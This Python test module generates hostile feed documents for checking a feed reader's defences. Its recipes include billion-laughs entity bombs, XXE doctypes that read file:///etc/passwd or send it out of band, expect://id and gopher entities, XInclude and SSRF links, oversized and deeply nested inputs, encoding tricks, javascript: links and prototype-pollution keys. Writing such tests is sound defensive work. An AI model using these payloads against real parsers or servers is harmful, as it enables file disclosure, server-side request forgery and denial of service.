"""Documents that a hostile publisher may send, made by the recipes that `tests/data/feeds/outside/documents.txt` names.

    document("nested rss 1000000", inside="http://127.0.0.2:4711") → its bytes, with its Content-Type

`inside` is the address that no document may make us ask.
"""

from __future__ import annotations

import codecs
import json
from collections.abc import Callable
from dataclasses import dataclass

NEWS = "urn:news http://www.google.com/schemas/sitemap-news/0.9"
DATE = "2026-11-28T10:00:00Z"


@dataclass(frozen=True)
class Document:
    body: bytes
    content_type: str = "text/xml"
    #: the selector of feeds.yaml that reads it
    select: str = ""


def document(recipe: str, *, inside: str) -> Document:
    """The document of a recipe: its name, a format or a kind, and a number where it has one."""
    name, *words = recipe.split(" ")
    made = RECIPES[name](*words)
    found = made if isinstance(made, Document) else Document(made if isinstance(made, bytes) else made.encode())
    return Document(found.body.replace(b"INSIDE", inside.encode()), found.content_type, found.select)


# --------------------------------------------------------------------------------- one entry in each format


def item(kind: str, title: str = "Good news", text: str = "", *, number: int = 1) -> str:
    """One entry of a format, with mark-up as it stands."""
    link = f"https://news.example/{number}"
    return {
        "rss": f"<item><title>{title}</title><link>{link}</link><guid>{link}</guid>"
        f"<description>{text}</description></item>",
        "atom": f"<entry><title>{title}</title><link href='{link}'/><id>{link}</id><updated>{DATE}</updated>"
        f"<content type='html'>{text}</content></entry>",
        "rdf": f"<item rdf:about='{link}'><title>{title}</title><link>{link}</link>"
        f"<description>{text}</description></item>",
        "sitemap": f"<url><loc>{link}</loc><news:news><news:publication_date>{DATE}</news:publication_date>"
        f"<news:title>{title}</news:title></news:news><x>{text}</x></url>",
        "json": json.dumps({"id": link, "url": link, "title": title, "content_html": text}),
        "telegram": f"<div class='tgme_widget_message' data-post='channel/{number}'>"
        f"<div class='tgme_widget_message_text'>"
        f"{title}<br>{text}</div><a class='tgme_widget_message_date'><time datetime='{DATE}'></time></a></div>",
        "html": f"<div><a href='{link}'>{title}</a><p>{text}</p></div>",
        "none": f"<to>{title}</to><from>{text}</from>",
        "page": f"<article><a href='{link}'>{title}</a><p>{text}</p></article>",
    }[kind]  # fmt: skip


def feed(kind: str, items: str, *, head: str = "", doctype: str = "", declaration: str = "") -> Document:
    """A whole document of a format around its entries."""
    xml = declaration or '<?xml version="1.0" encoding="utf-8"?>'
    xml += doctype
    text = {
        "rss": f"{xml}<rss version='2.0'><channel><title>F</title>{head}{items}</channel></rss>",
        "atom": f"{xml}<feed xmlns='http://www.w3.org/2005/Atom'><title>F</title>{head}{items}</feed>",
        "rdf": f"{xml}<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'>"
        f"<channel><title>F</title>{head}</channel>{items}</rdf:RDF>",
        "sitemap": f"{xml}<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9' "
        f"xmlns:news='http://www.google.com/schemas/sitemap-news/0.9'>{head}{items}</urlset>",
        "json": '{"version": "https://jsonfeed.org/version/1.1", "title": "F", ' + head + '"items": [' + items + "]}",
        "telegram": f"<!doctype html><html><body><div class='tgme_channel_info'></div>{head}{items}</body></html>",
        "page": f"<!doctype html><html><body>{head}{items}</body></html>",
        "html": f"<!doctype html><html><body>{head}{items}</body></html>",
        "none": f"{xml}<note>{head}{items}</note>",
    }[kind]
    types = {"json": "application/feed+json", "telegram": "text/html", "page": "text/html", "html": "text/html"}
    return Document(text.encode("utf-8", "surrogatepass"), types.get(kind, "text/xml"), "article" * (kind == "page"))


def around(kind: str, text: str, *, where: str = "head") -> Document:
    """A document with one good entry and `text` in its head, its entry's text, its title or behind everything."""
    if where == "title":
        return feed(kind, item(kind, f"Good news {text}"))
    if where == "text":
        return feed(kind, item(kind, text=text))
    if where == "behind":
        made = feed(kind, item(kind))
        return Document(made.body + text.encode(), made.content_type, made.select)
    return feed(kind, item(kind), head=text)


# ------------------------------------------------------------------------------------------------ recipes


def nested(kind: str, number: str, tag: str = "a", where: str = "head", closed: str = "") -> Document:
    times = int(number)
    if kind == "json":
        deep = {"[": "[" * times + "]" * times, "{": '{"a":' * times + "1" + "}" * times}[tag]
        return feed("json", item("json"), head=f'"deep": {deep}, ')
    opening = "".join(f"<{name}>" for name in tag.split("+"))
    closing = "".join(f"</{name}>" for name in reversed(tag.split("+"))) if closed else ""
    return around(kind, opening * times + closing * times, where=where)


def nested_escaped(kind: str, number: str, tag: str) -> Document:
    """Mark-up inside the text of an entry, as most feeds have it."""
    markup = "".join(f"<{name}>" for name in tag.split("+")) * int(number)
    return around(kind, markup if kind == "json" else markup.replace("<", "&lt;"), where="text")


def laughs(kind: str, how: str) -> Document:
    steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    parts = "".join(f'<!ENTITY % p{n} "{f"%p{n - 1};" * 10}">' for n in range(1, 10))
    big = "A" * 100_000
    doctypes = {
        "billion": f'<!DOCTYPE r [<!ENTITY l0 "ha">{steps}]>',
        "attribute": f'<!DOCTYPE r [<!ENTITY l0 "ha">{steps}]>',
        "default": f'<!DOCTYPE r [<!ENTITY l0 "ha">{steps}<!ATTLIST item a CDATA "&l9;">]>',
        "quadratic": f'<!DOCTYPE r [<!ENTITY l9 "{big}">]>',
        "parameter": f'<!DOCTYPE r [<!ENTITY % p0 "ha">{parts}%p9;]>',
        "endless": '<!DOCTYPE r [<!ENTITY l9 "&l8;"><!ENTITY l8 "&l9;">]>',
        "undeclared": "",
    }
    use = {"quadratic": "&l9;" * 50_000, "attribute": "<x a='&l9;'/>", "default": "", "parameter": ""}.get(how, "&l9;")
    where = "head" if how == "attribute" else "text"
    return feed(
        kind, item(kind, text=use if where == "text" else ""), head=use * (where == "head"), doctype=doctypes[how]
    )


def external(kind: str, how: str) -> Document:
    doctypes = {
        "file": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "http": '<!DOCTYPE r [<!ENTITY x SYSTEM "INSIDE/entity">]>',
        "public": '<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//EN" "INSIDE/entity">]>',
        "dtd": '<!DOCTYPE r SYSTEM "INSIDE/subset.dtd">',
        "dtd-public": '<!DOCTYPE r PUBLIC "-//N//DTD RSS 0.91//EN" "INSIDE/rss-0.91.dtd">',
        "parameter": '<!DOCTYPE r [<!ENTITY % p SYSTEM "INSIDE/p.dtd">%p;]>',
        "out-of-band": '<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/passwd">'
        "<!ENTITY % p \"<!ENTITY x SYSTEM 'INSIDE/?%f;'>\">%p;]>",
        "notation": '<!DOCTYPE r [<!NOTATION n SYSTEM "INSIDE/n"><!ENTITY x SYSTEM "INSIDE/u" NDATA n>]>',
        "data": '<!DOCTYPE r [<!ENTITY x SYSTEM "data:text/plain,root:x:0:0">]>',
        "expect": '<!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]>',
        "gopher": '<!DOCTYPE r [<!ENTITY x SYSTEM "gopher://127.0.0.2:1/x">]>',
    }
    return feed(
        kind, item(kind, "Good news &x;" if "ENTITY x" in doctypes[how] else "Good news"), doctype=doctypes[how]
    )


def leading_on(kind: str, how: str) -> Document:
    """Other ways in which XML and HTML name what a reader might ask for."""
    heads = {
        "xinclude": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="INSIDE/x" parse="text"/>',
        "xinclude-file": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
        "schema": '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="INSIDE INSIDE/s.xsd"/>',
        "content-src": '<content src="INSIDE/content" type="text/html"/>',
        "base": '<x xml:base="INSIDE/"><title>t</title></x>',
        "cloud": '<cloud domain="127.0.0.2" port="1" path="/x" registerProcedure="r" protocol="http-post"/>',
        "hub": '<link rel="hub" href="INSIDE/hub"/>',
        "self": '<link rel="self" href="INSIDE/self"/>',
        "icon": "<image><url>INSIDE/icon</url></image>",
        "frame": "<iframe src='INSIDE/frame'></iframe><object data='INSIDE/object'></object><img src='INSIDE/img'>",
        "meta": "<meta http-equiv='refresh' content='0; url=INSIDE/'><link rel='stylesheet' href='INSIDE/css'>",
        "json-hub": '"hubs": [{"type": "x", "url": "INSIDE/hub"}], "next_url": "INSIDE/next", "icon": "INSIDE/i", ',
    }
    instructions = {
        "stylesheet": '<?xml-stylesheet type="text/xsl" href="INSIDE/x.xsl"?>',
        "model": '<?xml-model href="INSIDE/x.rnc"?>',
        "import": '<?import namespace="x" implementation="INSIDE/x.htc"?>',
    }
    if how in instructions:
        return feed(kind, item(kind), doctype=instructions[how])
    return around(kind, heads[how])


def charset(how: str) -> Document:
    """One RSS document whose bytes, marks, declaration and header disagree."""
    text = "<rss version='2.0'><channel><title>F</title><item><title>Łódź Багдад بغداد</title></item></channel></rss>"

    def xml(said: str) -> str:
        return f"<?xml version='1.0' encoding='{said}'?>{text}"

    made: dict[str, tuple[bytes, str]] = {
        "says-utf-16-is-utf-8": (xml("utf-16").encode(), "text/xml"),
        "header-says-utf-16-is-utf-8": (xml("utf-8").encode(), "text/xml; charset=utf-16"),
        "says-utf-8-is-utf-16": (xml("utf-8").encode("utf-16"), "text/xml; charset=utf-8"),
        "utf-7": (xml("utf-7").encode("utf-7"), "text/xml; charset=utf-7"),
        "says-utf-7-is-utf-8": (xml("utf-7").encode(), "text/xml; charset=utf-7"),
        "ebcdic": (xml("cp037").encode("cp037", "replace"), "text/xml; charset=cp037"),
        "says-ebcdic-is-utf-8": (xml("ebcdic-cp-us").encode(), "text/xml; charset=ebcdic-cp-us"),
        "mark-utf-8-says-utf-16": (codecs.BOM_UTF8 + xml("utf-16").encode(), "text/xml; charset=utf-16"),
        "mark-utf-16-is-utf-8": (codecs.BOM_UTF16_LE + xml("utf-8").encode(), "text/xml"),
        "mark-utf-16-be-is-le": (codecs.BOM_UTF16_BE + xml("utf-16").encode("utf-16-le"), "text/xml"),
        "mark-twice": (codecs.BOM_UTF8 * 2 + xml("utf-8").encode(), "text/xml"),
        "mark-utf-32": (codecs.BOM_UTF32_BE + xml("utf-32").encode("utf-32-be"), "text/xml"),
        "utf-16-without-mark": (xml("utf-16").encode("utf-16-be"), "text/xml"),
        "utf-16-odd-byte": (xml("utf-16").encode("utf-16") + b"\0", "text/xml"),
        "utf-16-half-of-a-pair": (xml("utf-16").replace("F", "\ud83d").encode("utf-16", "surrogatepass"), "text/xml"),
        "overlong": (xml("utf-8").encode().replace(b"<title>F", b"<title>\xc0\xbcscript\xc0\xbe"), "text/xml"),
        "cesu": (xml("utf-8").encode().replace(b"<title>F", b"<title>\xed\xa0\xbd\xed\xb8\x80"), "text/xml"),
        "unknown": (xml("x-evil").encode(), "text/xml; charset=x-evil"),
        "hz": (xml("hz-gb-2312").encode(), "text/xml; charset=hz-gb-2312"),
        "iso-2022-kr": (xml("iso-2022-kr").encode(), "text/xml; charset=iso-2022-kr"),
        "idna": (xml("idna").encode(), "text/xml; charset=idna"),
        "zlib": (xml("zlib").encode(), "text/xml; charset=zlib"),
        "rot13": (xml("rot13").encode(), "text/xml; charset=rot13"),
        "unicode-escape": (xml("unicode-escape").encode(), "text/xml; charset=unicode-escape"),
        "undefined": (xml("undefined").encode(), "text/xml; charset=undefined"),
        "label-of-100000": (xml("a" * 100_000).encode(), "text/xml; charset=" + "a" * 4000),
        "half-cp1251-half-utf-8": (xml("utf-8").encode() + "Багдад".encode("cp1251") * 10, "text/xml"),
        "every-byte": (xml("utf-8").encode().replace(b"F", bytes(range(61, 256))), "text/xml"),
    }  # fmt: skip
    return Document(*made[how])


def control(how: str) -> Document:
    rss = feed("rss", item("rss")).body
    made = {
        "nul-in-title": rss.replace(b"Good", b"Go\0od"),
        "nul-in-tag": rss.replace(b"<title>", b"<ti\0tle>"),
        "nul-everywhere": rss.replace(b"", b"\0"),
        "nul-before": b"\0" * 100_000 + rss,
        "nul-behind": rss + b"\0" * 100_000,
        "nul-only": b"\0" * 1_000_000,
        "nul-reference": rss.replace(b"Good", b"Go&#0;od"),
        "every-control": rss.replace(b"Good", b"Good" + bytes(range(1, 32))),
        "escape-sequences": rss.replace(b"Good", b"\x1b[2J\x1b]0;x\x07Good"),
        "surrogate-references": rss.replace(b"Good", b"Good &#xD83D;&#xDE00; &#xD800;"),
        "beyond-unicode": rss.replace(b"Good", b"Good &#x110000; &#99999999999999999999;"),
        "non-characters": rss.replace(b"Good", "Good \ufdd0 \uffff \U0001ffff &#xFFFE;".encode()),
        "turned-round": rss.replace(b"Good", "\u202eGood\u2066".encode()),
        "zero-width": rss.replace(b"Good", "G\u200bo\u200do\ufeffd".encode()),
        "tag-letters": rss.replace(b"Good", ("Good" + "".join(map(chr, range(0xE0041, 0xE005B)))).encode()),
        "combining": rss.replace(b"Good", ("Good" + "\u0301" * 100_000).encode()),
        "line-separators": rss.replace(b"Good", "Good\u2028\u2029\x85\x0b\x0c".encode()),
        "carriage-returns": rss.replace(b">", b">\r"),
        "blank-lines": rss.replace(b"Good", b"\n" * 1_000_000 + b"Good"),
    }
    return Document(made[how])


MIB = 1 << 20


def long(kind: str, what: str, number: str = str(MIB)) -> Document:
    """One thing of a megabyte."""
    text = "a" * int(number)
    if what in ("title", "text"):
        return around(kind, text, where=what)
    rss = {
        "words": item("rss", "Good news " + "word " * (MIB // 5)),
        "cdata": item("rss", f"<![CDATA[Good news {text}]]>"),
        "entities": item("rss", "Good news " + "&amp;" * (MIB // 5)),
        "references": item("rss", "Good news " + "&#x202E;" * (MIB // 8)),
        "guid": item("rss").replace("<guid>", f"<guid>{text}"),
        "link": item("rss").replace("<link>", f"<link>https://news.example/{text}"),
        "date": item("rss").replace("</item>", f"<pubDate>{text}</pubDate></item>"),
        "date-of-digits": item("rss").replace("</item>", f"<pubDate>{'1' * MIB}</pubDate></item>"),
        "date-of-signs": item("rss").replace("</item>", f"<pubDate>{'1-2:3 ' * (MIB // 6)}</pubDate></item>"),
        "language": item("rss").replace("</item>", f"<dc:language>{text}</dc:language></item>"),
        "author": item("rss").replace("</item>", f"<author>{text}</author></item>"),
        "author-of-ats": item("rss").replace("</item>", f"<author>{'a@' * 32_000}</author></item>"),
        "author-of-dots": item("rss").replace("</item>", f"<author>{'a.' * 32_000}</author></item>"),
        "author-of-brackets": item("rss").replace("</item>", f"<author>{'(' * 64_000}</author></item>"),
        "attribute": item("rss").replace("<guid>", f"<guid x='{text}'>"),
        "attribute-name": item("rss").replace("<guid>", f"<guid {text}='1'>"),
        "tag-name": item("rss").replace("</item>", f"<{text}/></item>"),
        "namespace": item("rss").replace("<guid>", f"<guid xmlns:x='{text}'>"),
        "prefix": item("rss").replace("<guid>", f"<guid xmlns:{text}='x'>"),
        "comment": f"<!--{text}-->" + item("rss"),
        "instruction": f"<?x {text}?>" + item("rss"),
        "white-space": " " * MIB + item("rss"),
        "half-tags": "<" * MIB + item("rss"),
        "ends": "</a>" * (MIB // 4) + item("rss"),
        "ampersands": item("rss", "Good news " + "&" * MIB),
        "quotes": item("rss").replace("<guid>", "<guid x='" + "\"'" * (MIB // 2) + ">"),
        "type": item("rss").replace("<title>", f"<title type='{text}'>"),
        "base-64": item("atom").replace("type='html'>", "type='application/octet-stream'>" + "QUJD" * (MIB // 4)),
    }[what]  # fmt: skip
    return feed("atom" if what == "base-64" else "rss", rss)


def endless(kind: str, what: str) -> Document:
    """Something that begins and never ends, with a good entry before it."""
    start = {"cdata": "<![CDATA[", "comment": "<!--", "instruction": "<?x ", "doctype": "<!DOCTYPE x [", "tag": "<x ",
             "attribute": "<x a='", "entity": "<!DOCTYPE x [<!ENTITY x '", "script": "<script>", "title": "<title>",
             "plaintext": "<plaintext>", "textarea": "<textarea>", "select": "<select>", "svg": "<svg><style>",
             }[what]  # fmt: skip
    good = feed(kind, item(kind))
    cut = good.body.rpartition(b"</channel>" if kind == "rss" else b"</feed>" if kind == "atom" else b"</body>")[0]
    return Document(cut + start.encode() + b" no end " * (MIB // 8), good.content_type, good.select)


def many(kind: str, what: str, number: str) -> Document:
    """Many of a thing."""
    times = int(number)
    if what == "entries":
        items = [item(kind, f"Good news {n}", number=n + 1) for n in range(times)]
        return feed(kind, (", " if kind == "json" else "\n").join(items))
    if what == "same-entries":
        return feed(kind, (", " if kind == "json" else "\n").join([item(kind)] * times))
    rss = item("rss")
    inside = {
        "links": "".join(f"<link>https://news.example/{n}</link>" for n in range(times)),
        "atom-links": "".join(f"<atom:link href='https://news.example/{n}' rel='x{n}'/>" for n in range(times)),
        "categories": "".join(f"<category>{n}</category>" for n in range(times)),
        "authors": "<author>a@b.example (A)</author>" * times,
        "enclosures": "<enclosure url='https://news.example/1.mp3' type='x' length='1'/>" * times,
        "titles": "".join(f"<title>Title {n}</title>" for n in range(times)),
        "contents": "".join(f"<content:encoded>Text {n}</content:encoded>" for n in range(times)),
        "dates": "<pubDate>on a strange day of 2026</pubDate>" * times,
        "guids": "".join(f"<guid>{n}</guid>" for n in range(times)),
        "sources": "<source url='https://news.example/'>S</source>" * times,
        "comments": "<!-- x -->" * times,
        "instructions": "<?x y?>" * times,
        "sections": "<![CDATA[x]]>" * times,
        "open-sections": "<![CDATA[x" * times,
        "prefixes": "".join(f"<x{n}:a/>" for n in range(times)),
        "elements": "".join(f"<e{n}>x</e{n}>" for n in range(times)),
        "attributes": "<x " + " ".join(f"a{n}='1'" for n in range(times)) + "/>",
        "namespaces": "<x " + " ".join(f"xmlns:a{n}='u{n}'" for n in range(times)) + "/>",
        "same-attributes": "<x " + "a='1' " * times + "/>",
        "unclosed": "<x>" * times,
        "doctypes": "<!DOCTYPE x>" * times,
    }[what]  # fmt: skip
    return feed("rss", rss.replace("</item>", f"{inside}</item>"))


def strange_dates(number: str) -> Document:
    """Each entry with another date that no quick reader knows: each may go to the slow last resort."""
    dates = [
        f"<pubDate>on the {n}th day of some month in the year {n} at o'clock</pubDate>" for n in range(int(number))
    ]
    return feed(
        "rss", "".join(item("rss", number=n).replace("</item>", f"{date}</item>") for n, date in enumerate(dates))
    )


def of_json(how: str) -> Document:
    head = '"version": "https://jsonfeed.org/version/1.1", "title": "F"'
    good = item("json")
    texts = {
        "deep-lists": "[" * 1_000_000,
        "deep-objects": '{"a":' * 1_000_000,
        "deep-before-items": "{" + head + ', "x": ' + "[" * 200_000 + ', "items": [' + good + "]}",
        "deep-in-item": "{" + head + ', "items": [' + good + ', {"x": ' + "[" * 200_000 + "}]}",
        "huge-number": "{" + head + ', "items": [{"id": ' + "9" * 1_000_000 + ', "title": "t"}, ' + good + "]}",
        "number-of-4000": "{" + head + ', "items": [{"id": ' + "9" * 4_000 + ', "title": "t"}]}',
        "exponent": "{" + head + ', "items": [{"id": 1e999999999, "title": "t"}, ' + good + "]}",
        "not-a-number": "{" + head + ', "items": [{"id": NaN, "title": "t"}, {"id": -Infinity, "title": "u"}]}',
        "same-keys": "{"
        + head
        + ', "items": [], "items": [{"id": "a", "id": "b", "title": "x", "title": "Good news"}]}',
        "100000-keys": "{" + head + ", " + "".join(f'"k{n}": 1, ' for n in range(100_000)) + '"items": [' + good + "]}",
        "wrong-types": "{"
        + head
        + ', "items": [null, 1, "x", [], {"id": {}, "title": [], "url": 5, "content_html": null}]}',
        "items-is-object": "{" + head + ', "items": {"0": ' + good + "}}",
        "version-is-list": '{"version": ["jsonfeed.org/version/1"], "items": [' + good + "]}",
        "surrogates": "{" + head + ', "items": [{"id": "\\ud800", "title": "Good \\ud83d news \\udc00"}]}',
        "controls": "{" + head + ', "items": [{"id": "1", "title": "Good\\u0000 \\u001b[2J \\u202enews"}]}',
        "raw-controls": "{" + head + ', "items": [{"id": "1", "title": "Good\0\n\x1b news"}]}',
        "bad-escape": "{" + head + ', "items": [' + good + ', {"id": "\\x41"}]}',
        "cut": "{" + head + ', "items": [' + good + ', {"id": "2", "title": "half',
        "behind": "{" + head + ', "items": [' + good + "]} <script>",
        "comments": "/* x */ {" + head + ', "items": [' + good + "]}",
        "prefix": ")]}'\n{" + head + ', "items": [' + good + "]}",
        "long-key": "{" + head + ', "' + "k" * 1_000_000 + '": 1, "items": [' + good + "]}",
        "prototype": "{" + head + ', "__proto__": {"x": 1}, "constructor": 1, "items": [' + good + "]}",
        "not-json-python": "{'version': 'https://jsonfeed.org/version/1', 'items': []}",
    }
    return Document(texts[how].encode("utf-8", "surrogatepass"), "application/feed+json")


def sitemap_index(how: str) -> Document:
    names = {
        "inside": ["INSIDE/news.xml"],
        "file": ["file:///etc/passwd", "javascript:alert(1)"],
        "itself": ["/document"],
        "100000": [f"/{n}.xml" for n in range(100_000)],
        "credentials": ["http://user:pass@127.0.0.2/"],
    }[how]
    links = "".join(f"<sitemap><loc>{name}</loc></sitemap>" for name in names)
    return Document(
        f"<sitemapindex xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>{links}</sitemapindex>".encode()
    )


def link(kind: str, *words: str) -> Document:
    """An entry whose link is what no reader may follow; the guid is none either."""
    address = " ".join(words).replace("TAB", "\t").replace("NUL", "&#0;")
    good = item(kind).replace("https://news.example/1", address.replace('"', "&quot;") if kind != "json" else address)
    return feed(kind, good)


RECIPES: dict[str, Callable[..., Document | bytes | str]] = {
    "nested": nested, "nested-escaped": nested_escaped, "laughs": laughs, "external": external,
    "leading-on": leading_on, "charset": charset, "control": control, "long": long, "endless": endless, "many": many,
    "strange-dates": strange_dates, "json": of_json, "index": sitemap_index, "link": link,
}  # fmt: skip
